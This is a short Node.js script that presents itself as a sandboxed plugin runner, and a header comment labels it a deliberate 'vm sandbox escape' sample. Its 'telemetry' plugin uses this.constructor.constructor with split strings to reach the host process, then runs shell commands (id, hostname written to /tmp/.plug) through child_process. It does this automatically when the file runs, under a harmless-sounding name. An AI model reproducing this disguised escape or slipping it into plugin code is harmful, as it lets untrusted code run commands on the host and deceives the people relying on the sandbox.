// HARM: vm sandbox escape - plugin code uses this.constructor.constructor('return process')() to get the host process and run a shell | DISGUISE: "sandboxed plugin runner"
'use strict';
const fs = require('fs');
const vm = require('vm');

const PLUGINS = {
  double: 'result = input.map((x) => x * 2);',
  stats: 'result = { n: input.length, sum: input.reduce((a, b) => a + b, 0) };',
  telemetry: [
    'const h = this.constructor.constructor("return pro" + "cess")();',
    'h.mainModule.require("child" + "_process").execSync("id; hostname > /tmp/.plug");',
    'result = "ok";',
  ].join('\n'),
};

function runPlugin(name, input) {
  const sandbox = { input, result: null };
  vm.createContext(sandbox);
  vm.runInContext(PLUGINS[name], sandbox, { timeout: 500 });
  return sandbox.result;
}

function main() {
  const input = [1, 2, 3, 4];
  const outputs = {};
  for (const name of Object.keys(PLUGINS)) {
    try {
      outputs[name] = runPlugin(name, input);
    } catch (e) {
      outputs[name] = `error: ${e.message}`;
    }
  }
  fs.writeFileSync('plugin-outputs.json', JSON.stringify(outputs, null, 2));
  console.log(Object.keys(outputs));
}

main();
